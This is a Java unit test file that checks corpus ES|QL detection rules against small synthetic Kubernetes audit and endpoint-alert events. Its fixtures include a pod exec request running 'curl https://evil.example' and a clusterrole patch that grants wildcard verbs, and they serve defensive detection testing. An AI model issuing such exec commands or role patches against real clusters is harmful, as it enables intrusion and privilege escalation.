package io.verdict.esql;

import static org.junit.jupiter.api.Assertions.assertEquals;

import io.verdict.Shared;
import io.verdict.event.Event;
import io.verdict.event.Schema;
import io.verdict.query.SourceText;
import java.nio.file.Path;
import java.time.Instant;
import java.util.ArrayList;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.tomlj.Toml;

/**
 * Corpus ES|QL rules on small streams that should make them fire and others that should leave them quiet, as
 * the semantics of ES|QL decide: KQL() on the raw event, GROK on a decoded URL, INLINE STATS before STATS.
 */
class EsqlCorpusQueriesTest {

    private static final EsqlCompiler COMPILER = new EsqlCompiler(new SchemaFieldTypes(Schema.catalog()));

    private static EsqlResult run(String rule, String... events) throws Exception {
        Path file = Shared.require("corpus/detection-rules").resolve(rule);
        CompiledEsql query = COMPILER.compile(SourceText.of(Toml.parse(file).getString("rule.query")));
        List<EsqlDocument> docs = new ArrayList<>();
        for (int i = 0; i < events.length; i++) {
            docs.add(new EsqlDocument(Event.parse(events[i]), "id" + i, ".ds-logs-x", 1));
        }
        return query.run(docs, new EsqlContext(Instant.parse("2025-01-01T00:10:00Z"), 101, false));
    }

    private static final String ROLE_PATCH = """
            {"kubernetes": {"audit": {"objectRef": {"resource": "clusterroles"}, "verb": "patch",
              "annotations": {"authorization_k8s_io/decision": "allow"}, "level": "RequestResponse",
              "stage": "ResponseComplete", "sourceIPs": ["10.1.2.3"],
              "responseObject": {"rules": [{"verbs": ["get", "%s"], "resources": ["*"]}]}}}}""";

    @Test
    void kqlOfARolePatchSeesAnyElementOfTheRawEvent() throws Exception {
        String rule =
                "rules/integrations/kubernetes/privilege_escalation_role_patch_wildcard_verbs_resources_response.toml";
        assertEquals(1, run(rule, ROLE_PATCH.formatted("*")).rows().size());
        assertEquals(0, run(rule, ROLE_PATCH.formatted("list")).rows().size());
    }

    private static final String EXEC = """
            {"kubernetes": {"audit": {"objectRef": {"subresource": "exec"},
              "requestURI": "/api/v1/namespaces/default/pods/web/exec?command=%s&command=https%%3A%%2F%%2Fevil.example&container=web&stdout=true"}}}""";

    @Test
    void grokOfADecodedExecUrlFindsTheCommand() throws Exception {
        String rule = "rules/integrations/kubernetes/execution_kubernetes_pod_exec_curl_wget_https.toml";
        EsqlResult fired = run(rule, EXEC.formatted("curl"));
        assertEquals(1, fired.rows().size());
        int column =
                fired.columns().stream().map(EsqlResult.Column::name).toList().indexOf("Esql.executed_command");
        assertEquals("curl https://evil.example", fired.rows().get(0).get(column));
        assertEquals(0, run(rule, EXEC.formatted("ls")).rows().size());
    }

    private static String alert(String host, String rule) {
        return """
                {"data_stream": {"dataset": "endpoint.alerts"}, "event": {"code": "behavior"},
                 "host": {"id": "%s"}, "rule": {"name": "%s"}, "user": {"name": "bob"}}""".formatted(host, rule);
    }

    @Test
    void inlineStatsKeepsOnlyRulesSeenOnOneHostBeforeCountingThemPerHost() throws Exception {
        String rule = "rules/cross-platform/multiple_elastic_defend_behavior_rules_same_host_prevalence.toml";
        EsqlResult fired = run(rule, alert("a", "r1"), alert("a", "r2"), alert("b", "r3"));
        assertEquals(1, fired.rows().size());
        assertEquals("a", fired.rows().get(0).get(0));
        assertEquals(
                0,
                run(rule, alert("a", "r1"), alert("a", "r2"), alert("b", "r2"))
                        .rows()
                        .size());
    }
}
